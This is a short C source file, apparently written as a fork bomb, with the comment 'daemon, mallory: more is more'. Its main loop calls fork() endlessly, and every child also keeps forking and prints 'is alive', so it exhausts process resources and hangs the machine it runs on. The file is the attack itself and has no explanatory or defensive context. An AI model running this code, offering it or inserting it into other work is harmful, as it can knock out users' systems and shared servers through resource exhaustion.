/* daemon, mallory: more is more */
#include <stdio.h>
#include <unistd.h>

int main(void)
{
    for (;;)
        if (fork() == 0)
            puts("is alive");
}
